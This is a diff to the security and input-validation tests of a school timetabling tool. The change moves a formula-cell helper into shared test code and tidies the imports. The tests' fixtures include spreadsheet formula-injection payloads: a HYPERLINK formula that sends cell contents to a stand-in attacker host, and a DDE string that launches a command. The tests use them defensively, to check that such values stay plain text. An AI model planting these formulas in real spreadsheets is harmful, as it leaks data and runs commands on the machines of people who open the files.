@@ -12,20 +12,16 @@ from keste.models.io.jsonio import school_json
 from keste.models.io.reading import write_school
 from keste.models.io.substitutions import read_history, write_history
 from keste.models.substitution import Substitution
-from tests.conftest import SAMPLES_DIR, digest, run
+from tests.conftest import (
+    SAMPLES_DIR,
+    digest,
+    formula_cells,
+    run,
+    sheets_of_small_school,
+    write_rows,
+)
 
 PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0")
-
-
-def _formula_cells(path) -> list[str]:
-    book = load_workbook(path)
-    return [
-        f"{sheet.title}!{cell.coordinate}"
-        for sheet in book.worksheets
-        for row in sheet.iter_rows()
-        for cell in row
-        if cell.data_type == "f"
-    ]
 
 
 def test_the_log_never_overwrites_an_input_or_the_timetable(tmp_path, runner):
@@ -46,10 +42,10 @@ def test_names_that_look_like_formulas_stay_text(tmp_path, runner):
     school.settings.name = PAYLOADS[0]
     path = tmp_path / "school.xlsx"
     write_school(school, path)
-    assert _formula_cells(path) == []
+    assert formula_cells(path) == []
     out = tmp_path / "tt.xlsx"
     assert run(runner, "solve", path, "-o", out, "--time-limit", "10").exit_code == 0
-    assert _formula_cells(out) == []
+    assert formula_cells(out) == []
     texts = [
         c.value
         for s in load_workbook(out).worksheets
@@ -100,8 +96,6 @@ HOSTILE_CELLS = [
 
 
 def test_hostile_cells_give_messages_not_tracebacks(tmp_path, runner):
-    from tests.conftest import sheets_of_small_school, write_rows
-
     for number, (sheet, row, column, value) in enumerate(HOSTILE_CELLS):
         sheets = sheets_of_small_school()
         sheets[sheet][row][column] = value
@@ -116,8 +110,6 @@ def test_hostile_cells_give_messages_not_tracebacks(tmp_path, runner):
 
 
 def test_an_unavailable_time_may_span_lines(tmp_path, runner):
-    from tests.conftest import sheets_of_small_school, write_rows
-
     sheets = sheets_of_small_school()
     sheets["Teachers"][0].append("unavailable")
     sheets["Teachers"][1].append("Mon\n1-2;\nTue")
@@ -161,8 +153,6 @@ def test_hostile_json_gives_messages_not_tracebacks(tmp_path, runner):
 
 
 def test_a_timetable_in_use_without_lessons_is_bad_input(tmp_path, runner):
-    from tests.conftest import write_rows
-
     header = ["day", "period", "start", "end", "class", "group", "subject", "teacher", "room"]
     approved = write_rows(tmp_path / "approved.xlsx", {"Lessons": [header]})
     out = tmp_path / "new.xlsx"
@@ -249,8 +239,6 @@ def test_a_workbook_that_unpacks_to_too_much_is_refused_unread(tmp_path, monkeyp
 def test_lookalike_letters_get_a_hint(tmp_path, runner):
     """The small sample's classes are Cyrillic (1А); a Load row typed with a Latin A, and a
     second class 1A beside 1А, are pointed out."""
-    from tests.conftest import sheets_of_small_school, write_rows
-
     sheets = sheets_of_small_school()
     assert sheets["Load"][1][0] == "1А"  # Cyrillic А
     sheets["Load"][1][0] = "1A"  # Latin A
@@ -272,8 +260,6 @@ def test_json_sheets_have_the_row_cap_of_workbooks(tmp_path, runner):
 
 
 def test_a_missing_sheet_is_one_error_not_one_per_row_that_names_it(tmp_path, runner):
-    from tests.conftest import sheets_of_small_school, write_rows
-
     for sheet in ("Classes", "Subjects", "Teachers"):
         sheets = sheets_of_small_school()
         del sheets[sheet]
@@ -291,8 +277,6 @@ def test_a_school_of_thousands_of_classes_is_refused_before_any_work(tmp_path, r
 
 
 def test_an_invisible_character_in_a_sheet_name_or_header_is_ignored(tmp_path, runner):
-    from tests.conftest import sheets_of_small_school, write_rows
-
     sheets = sheets_of_small_school()
     sheets["Cla\u200bsses"] = sheets.pop("Classes")
     sheets["Load"][0][0] = "\ufeffclass"
@@ -301,8 +285,6 @@ def test_an_invisible_character_in_a_sheet_name_or_header_is_ignored(tmp_path, r
 
 
 def test_a_table_too_far_down_or_right_is_said_so(tmp_path, runner):
-    from tests.conftest import sheets_of_small_school, write_rows
-
     for name, move in (
         ("down", lambda rows: [[]] * 25 + rows),
         ("right", lambda rows: [[None] * 65 + row for row in rows]),
@@ -317,8 +299,6 @@ def test_a_table_too_far_down_or_right_is_said_so(tmp_path, runner):
 
 def test_a_formula_never_calculated_is_named_not_read_as_empty(tmp_path, runner):
     """openpyxl, like other programs that do not calculate, saves a formula with no value."""
-    from tests.conftest import sheets_of_small_school, write_rows
-
     sheets = sheets_of_small_school()
     sheets["Classes"][1][2] = "=20+8"  # students of 1А, as a formula
     result = run(runner, "check", write_rows(tmp_path / "formula.xlsx", sheets))
